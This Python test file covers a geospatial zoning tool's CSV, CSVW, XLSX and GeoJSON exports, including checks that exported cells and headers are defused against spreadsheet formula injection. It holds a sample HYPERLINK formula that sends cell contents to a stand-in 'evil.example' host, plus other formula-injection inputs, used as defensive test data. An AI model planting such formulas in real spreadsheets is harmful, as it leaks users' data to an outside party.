"""Issue 8.12 (plain CSV + CSVW metadata), 13.4 (no formulas in any cell or header), 8.16 (XLSX layout)."""

from __future__ import annotations

import io
import json
import zipfile

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
import shapely

from geozones.io import exports
from tests.engine.conftest import TINY_RULES, write_tiny_area

ATTR = ["Rule set / aturan: test v1 (draft)", "Data / lapisan: worship sha256:abc",
        "SK KPU Kota 1/2024, CC BY 4.0"]
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def _table(extra_header: str = "catatan") -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame({
        "site_id": ["007", EVIL], "lon": [106.83109, 106.85], "lat": [-6.17025, -6.18],
        "verdict": ["FORBIDDEN", "NEEDS_OWNER_CONSENT"], "kode_kemendagri": ["31.71.01.1001", "31.71.08.1001"],
        "kode_bps": ["3173080001", "3173040001"], "kode_kemendagri_kota": ["31.71", "31.71"],
        "kelurahan": ["Gambir", "Johar Baru"], "advisory": [True, False], "nearest_m": [12.5, float("nan")],
        "reasons_id": ["R01 Tempat ibadah", "-R12"], "reasons_en": ["R01 Place of worship", "+R12"],
        extra_header: ["@SUM(1)", "ok"],
        "judged_at": pd.to_datetime(["2024-10-01T08:00", "2024-10-02T08:00"]).tz_localize("Asia/Jakarta"),
    }, geometry=shapely.points([106.83109, 106.85], [-6.17025, -6.18]), crs=4326)


# ----------------------------------------------------------------------------- 8.12 CSV + CSVW
def test_cli_csv_is_plain_rfc4180_and_loads_with_pandas_defaults(tmp_path):
    path = tmp_path / "hasil.csv"
    exports.write_table(_table(), path, "csv", attribution=ATTR, lang="id", provenance={"ruleset_id": "test"})
    raw = path.read_bytes()
    assert raw.startswith(b"site_id,lon,lat,verdict,")  # header on line 1: no BOM, no '#' lines
    assert b"\r\n" in raw and b"\n#" not in raw
    df = pd.read_csv(path)
    assert len(df) == 2 and df.columns[0] == "site_id"
    text = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert list(text["site_id"]) == ["007", "'" + EVIL]
    assert list(text["kode_kemendagri_kota"]) == ["31.71", "31.71"]  # not the float 31.71
    assert list(text["kode_bps"]) == ["3173080001", "3173040001"]
    assert text["judged_at"][0] == "2024-10-01T08:00:00+07:00"


def test_csvw_metadata_beside_the_csv(tmp_path):
    path = tmp_path / "hasil.csv"
    exports.write_table(_table(), path, "csv", attribution=ATTR, lang="en", provenance={"ruleset_version": "1"})
    meta_path = tmp_path / "hasil.csv-metadata.json"  # the name CSVW's locating rules look for
    assert exports.metadata_path(path) == meta_path
    meta = json.loads(meta_path.read_text(encoding="utf-8"))
    assert meta["@context"][0] == "http://www.w3.org/ns/csvw" and meta["url"] == "hasil.csv"
    assert meta["dc:source"] == ATTR and meta["dc:provenance"] == {"ruleset_version": "1"}
    cols = meta["tableSchema"]["columns"]
    header = path.read_text(encoding="utf-8").splitlines()[0].split(",")
    assert [c["titles"] for c in cols] == header
    types = {c["titles"]: c["datatype"] for c in cols}
    for code in ("site_id", "kode_kemendagri", "kode_bps", "kode_kemendagri_kota"):
        assert types[code] == "string"
    assert types["lon"] == "double" and types["advisory"]["base"] == "boolean"
    assert types["judged_at"]["base"] == "datetime"
    assert all(c["name"][0] != "_" and c["name"].replace("_", "").isalnum() for c in cols)


def test_app_and_cli_csv_are_the_same_bytes(tmp_path):
    path = tmp_path / "hasil.csv"
    exports.write_table(_table(), path, "csv", attribution=ATTR, lang="id")
    offered = exports.csv_export(_table(), attribution=ATTR, lang="id", name="hasil.csv")
    assert offered.data == path.read_bytes()
    assert json.loads(offered.metadata) == json.loads(exports.metadata_path(path).read_text(encoding="utf-8"))
    assert offered.metadata_name == "hasil.csv-metadata.json"


def test_old_exports_still_read_back():
    old = ("\ufeff# Rule set / aturan: x\n# © OpenStreetMap contributors, ODbL\n"
           "site_id,kode_bps\na,3173080001\n").encode()
    back = exports.read_csv_export(old)
    assert list(back.columns) == ["site_id", "kode_bps"] and back["kode_bps"][0] == "3173080001"
    new = exports.csv_export(_table(), attribution=ATTR).data
    assert exports.read_csv_export(new)["kode_bps"][1] == "3173040001"


# ----------------------------------------------------------------------------- 13.4 defusing
def _is_number(value) -> bool:
    """A plain number (``-6.17``) is data, not a formula: spreadsheets read it as a number."""
    try:
        float(value)
    except ValueError:
        return False
    return True


def _formula_free_xlsx(data: bytes) -> openpyxl.Workbook:
    # The XML itself: a formula is an <f> element; no sheet may hold one.
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name
    return openpyxl.load_workbook(io.BytesIO(data))


@pytest.mark.parametrize("header", ["=1+41", "+cmd", "-2+3", "@SUM(A1)", "\tx", "=HYPERLINK(\"x\")"])
def test_no_header_or_cell_becomes_a_formula(header):
    t = _table(extra_header=header)
    # CSV: every field starting a formula is quoted text with a leading apostrophe
    df = pd.read_csv(io.BytesIO(exports.table_csv(t, attribution=ATTR)), dtype=str, keep_default_na=False)
    for value in [*df.columns, *df.to_numpy().ravel()]:
        assert _is_number(value) or not str(value).startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert "'" + header.replace("\t", "") in df.columns or "'" + header in df.columns
    # XLSX: header and cells are text
    wb = _formula_free_xlsx(exports.table_xlsx(t, attribution=ATTR))
    for row in wb["hasil"].iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            assert not (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")))
    # the attribution sheet too (an import's --source is user text)
    wb = _formula_free_xlsx(exports.table_xlsx(t, attribution=[*ATTR, header], lang="en"))
    last = [c.value for c in wb["source"]["A"]][-1]
    assert not last.startswith(("=", "+", "-", "@")) and last.lstrip("'") == header.strip()
    # GeoJSON: property names and values
    props = json.loads(exports.table_geojson(t, attribution=ATTR))["features"][1]["properties"]
    for k, v in props.items():
        assert not k.startswith(("=", "+", "-", "@")) and not (isinstance(v, str) and v.startswith("="))


def test_annex_street_names_are_defused(tmp_path):
    import copy

    from geozones.areas.manifest import load_manifest
    from geozones.engine import prepare, zoning
    from geozones.io.layers import load_layers
    from geozones.rules.model import parse_ruleset

    tiny_layers = load_layers(load_manifest(write_tiny_area(tmp_path)), tmp_path)
    tiny_rules = parse_ruleset(copy.deepcopy(TINY_RULES), known_layers=tiny_layers.manifest.layer_names)
    prepared = prepare(tiny_layers, tiny_rules)
    split = zoning.zone_split(prepared, zoning.rule_covers(prepared), at=pd.Timestamp("2024-10-15T10:00"),
                              apk_type="spanduk")
    lines = gpd.GeoSeries(shapely.linestrings([[(700_100, 9_316_900), (700_900, 9_316_900)]]), crs=32748)
    segs = zoning.usable_streets(split, prepared, lines, pd.Series([EVIL]))
    assert len(segs) == 1
    out = exports.annex_export(segs, zoning=split, attribution=ATTR, title="=Lampiran")
    df = pd.read_csv(io.BytesIO(out.data), dtype=str)
    assert df["nama_jalan"][0] == "'" + EVIL
    meta = json.loads(out.metadata)
    assert meta["dc:title"] == "=Lampiran"  # JSON metadata is not a spreadsheet cell
    assert any("20 m" in n for n in meta["dc:description"])


# ----------------------------------------------------------------------------- 8.16 XLSX layout
@pytest.mark.parametrize("lang,sheets", [("id", ["hasil", "sumber"]), ("en", ["results", "source"])])
def test_xlsx_sheets_named_by_language_with_widths_filter_and_frozen_header(lang, sheets):
    wb = _formula_free_xlsx(exports.table_xlsx(_table(), attribution=ATTR, lang=lang))
    assert wb.sheetnames == sheets
    ws = wb[sheets[0]]
    header = [c.value for c in ws[1]]
    assert header[:4] == ["site_id", "lon", "lat", "verdict"]
    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}3"
    assert ws.freeze_panes in ("A2", "B2")
    widths = {h: ws.column_dimensions[openpyxl.utils.get_column_letter(i + 1)].width
              for i, h in enumerate(header)}
    assert widths["reasons"] > widths["lat"] >= len("lat")
    assert widths["kode_kemendagri"] >= len("31.71.01.1001")
    assert len(set(widths.values())) > 2  # fitted, not all equal
    assert [c.value for c in wb[sheets[1]]["A"]][1:] == ATTR
